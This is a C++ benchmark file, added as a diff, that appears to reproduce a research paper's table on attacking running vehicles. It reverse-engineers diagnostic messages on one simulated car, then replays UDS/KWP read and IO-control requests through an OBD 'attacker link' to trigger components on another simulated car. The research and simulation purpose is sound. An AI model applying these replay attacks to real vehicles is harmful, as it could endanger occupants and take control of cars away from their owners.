@@ -1,0 +1,167 @@
+// Table 13 — Using the reverse-engineered diagnostic messages to attack
+// running vehicles (§9.3): rent another vehicle of the same model, inject
+// the recovered request messages through the OBD port, and verify that
+// the read succeeds / the component actually triggers.
+//
+// Paper result: every replayed message succeeds while the vehicle runs
+// (e.g. unlocking all doors of a moving Toyota Corolla).
+
+#include <cstdio>
+#include <memory>
+
+#include "bench_common.hpp"
+#include "isotp/endpoint.hpp"
+#include "kwp/client.hpp"
+#include "oemtp/link.hpp"
+#include "uds/client.hpp"
+
+namespace {
+
+using namespace dpr;
+
+/// The attacker's OBD dongle: a raw message link to one ECU of the
+/// victim vehicle, built from the same public transport standards.
+std::unique_ptr<util::MessageLink> attacker_link(
+    can::CanBus& bus, const vehicle::CarSpec& spec,
+    const vehicle::EcuSpec& ecu) {
+  switch (spec.transport) {
+    case vehicle::TransportKind::kIsoTp:
+      return std::make_unique<isotp::Endpoint>(
+          bus, isotp::EndpointConfig{can::CanId{ecu.request_id, false},
+                                     can::CanId{ecu.response_id, false}});
+    case vehicle::TransportKind::kBmwFraming:
+      return std::make_unique<oemtp::BmwLink>(
+          bus, oemtp::BmwLinkConfig{can::CanId{ecu.request_id, false},
+                                    can::CanId{ecu.response_id, false},
+                                    ecu.address, 0xF1});
+    case vehicle::TransportKind::kVwTp20:
+      return std::make_unique<vwtp::Channel>(
+          bus, vwtp::ChannelConfig{can::CanId{ecu.request_id, false},
+                                   can::CanId{ecu.response_id, false}});
+  }
+  return nullptr;
+}
+
+struct AttackResult {
+  std::size_t attempted = 0;
+  std::size_t succeeded = 0;
+};
+
+AttackResult attack_car(vehicle::CarId car) {
+  // Phase 1: reverse engineer a rented instance of the model.
+  auto options = bench::table_options();
+  options.run_inference = false;
+  core::Campaign campaign(car, options);
+  campaign.collect();
+  campaign.analyze();
+  const auto& report = campaign.report();
+
+  // Phase 2: attack a *different* instance (fresh seed -> fresh state).
+  util::SimClock clock;
+  can::CanBus bus(clock);
+  vehicle::Vehicle victim(car, bus, clock, /*seed=*/0xA77AC4);
+  const auto& spec = victim.spec();
+
+  AttackResult result;
+
+  // Replay two recovered read requests (e.g. BMW brake pressure).
+  std::size_t reads = 0;
+  for (const auto& signal : report.signals) {
+    if (signal.is_kwp || reads >= 2) continue;
+    auto* ecu = victim.find_ecu_with_did(signal.did);
+    if (ecu == nullptr) continue;
+    const vehicle::EcuSpec* ecu_spec = nullptr;
+    for (const auto& e : spec.ecus) {
+      if (e.request_id == ecu->request_id() &&
+          e.response_id == ecu->response_id()) {
+        ecu_spec = &e;
+      }
+    }
+    if (!ecu_spec) continue;
+    auto link = attacker_link(bus, spec, *ecu_spec);
+    uds::Client client(*link, [&] { bus.deliver_pending(); });
+    const std::vector<uds::Did> dids{signal.did};
+    const auto resp = client.transact(
+        uds::encode_read_data_by_identifier(dids));
+    ++result.attempted;
+    ++reads;
+    if (resp && !resp->empty() && (*resp)[0] == 0x62) {
+      ++result.succeeded;
+      std::printf("    read  [%s] %-32s -> %s\n",
+                  signal.request_message.c_str(),
+                  signal.semantic_name.c_str(),
+                  util::to_hex(*resp).c_str());
+    } else {
+      std::printf("    read  [%s] FAILED\n", signal.request_message.c_str());
+    }
+  }
+
+  // Replay every recovered control procedure.
+  for (const auto& ecr : report.ecrs) {
+    auto* ecu = victim.find_ecu_with_actuator(ecr.id);
+    if (ecu == nullptr) continue;
+    const vehicle::EcuSpec* ecu_spec = nullptr;
+    for (const auto& e : spec.ecus) {
+      if (e.response_id == ecu->response_id()) ecu_spec = &e;
+    }
+    if (!ecu_spec) continue;
+    auto link = attacker_link(bus, spec, *ecu_spec);
+    ++result.attempted;
+    const auto pump = [&] { bus.deliver_pending(); };
+    bool ok = false;
+    if (ecr.is_uds) {
+      uds::Client client(*link, pump);
+      client.start_session(0x03);
+      ok = client.io_control(ecr.id,
+                             uds::IoControlParameter::kFreezeCurrentState)
+               .has_value();
+      ok = ok && client.io_control(
+                     ecr.id, uds::IoControlParameter::kShortTermAdjustment,
+                     ecr.adjustment_state).has_value();
+      ok = ok && client.io_control(
+                     ecr.id, uds::IoControlParameter::kReturnControlToEcu)
+                     .has_value();
+    } else {
+      uds::Client session(*link, pump);
+      session.start_session(0x03);
+      kwp::Client client(*link, pump);
+      const auto local = static_cast<std::uint8_t>(ecr.id);
+      util::Bytes freeze{0x02};
+      ok = client.io_control_local(local, freeze).has_value();
+      util::Bytes adjust{0x03};
+      adjust.insert(adjust.end(), ecr.adjustment_state.begin(),
+                    ecr.adjustment_state.end());
+      ok = ok && client.io_control_local(local, adjust).has_value();
+      util::Bytes ret{0x00};
+      ok = ok && client.io_control_local(local, ret).has_value();
+    }
+    const bool triggered = ecu->actuator(ecr.id)->activations() > 0;
+    if (ok && triggered) ++result.succeeded;
+    std::printf("    ctrl  [%s id 0x%04X] %-28s -> %s\n",
+                ecr.is_uds ? "2F" : "30", ecr.id, ecr.semantic_name.c_str(),
+                ok && triggered ? "component triggered" : "FAILED");
+  }
+  return result;
+}
+
+}  // namespace
+
+int main() {
+  std::printf("Table 13: attacking running vehicles with reverse-"
+              "engineered messages\n(paper: all messages succeed on BMW "
+              "i3, Lexus NX300, Toyota Corolla, Kia)\n\n");
+  const vehicle::CarId targets[] = {vehicle::CarId::kG, vehicle::CarId::kD,
+                                    vehicle::CarId::kL, vehicle::CarId::kN};
+  std::size_t attempted = 0, succeeded = 0;
+  for (const auto car : targets) {
+    std::printf("%s (%s):\n", vehicle::car_label(car).c_str(),
+                vehicle::car_spec(car).model.c_str());
+    const auto result = attack_car(car);
+    attempted += result.attempted;
+    succeeded += result.succeeded;
+  }
+  dpr::bench::print_rule(70);
+  std::printf("Attack success: %zu/%zu   [paper: all succeed]\n", succeeded,
+              attempted);
+  return succeeded == attempted && attempted > 0 ? 0 : 1;
+}
